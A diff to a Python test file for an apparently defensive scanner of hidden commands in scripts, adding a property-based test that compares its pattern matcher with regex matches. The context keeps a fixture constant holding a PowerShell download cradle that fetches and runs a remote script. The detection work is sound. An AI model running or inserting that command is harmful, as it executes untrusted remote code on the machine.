@@ -3,14 +3,16 @@
 from __future__ import annotations
 
 import base64
+import re
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from agent.engine.scanner import PatternScanner
 from agent.indicators import Content
 from agent.matching.byte_rules import ByteRules
-from agent.matching.hidden_commands import HiddenScan, hidden_in_script, readings
+from agent.matching.hidden_commands import BROKEN_WORDS, HiddenScan, hidden_in_script, readings
 from tests.evidence.packs import stated
 
 COMMAND = "iex (New-Object Net.WebClient).DownloadString('https://pandorasong.com/x')"
@@ -40,6 +42,19 @@ def test_the_bytes_of_a_script_that_hides_something_are_noticed(line: str, encod
 def test_what_stands_in_the_clear_hides_nothing() -> None:
     for text in ("echo cmd", 'set x="cmd"', "a, 'b' + c", ""):
         assert [one.text for one in readings(text)] == [text]
+
+
+@settings(max_examples=50, deadline=None)
+@given(st.text(alphabet="aZ9.\"'+^`- ", max_size=40))
+def test_broken_words_are_where_another_engine_has_them(text: str) -> None:
+    data = text.encode("utf-16-le")
+    scanner = PatternScanner({broken: [f"/{broken}/"] for broken in BROKEN_WORDS})
+    found = {one.name: [at for at, _ in one.places] for one in scanner.scan(data)}
+    expected = {
+        broken: [at.start() for at in re.finditer(f"(?={broken})".encode(), data)]
+        for broken in BROKEN_WORDS
+    }
+    assert found == {broken: places for broken, places in expected.items() if places}
 
 
 @settings(max_examples=100, deadline=None)
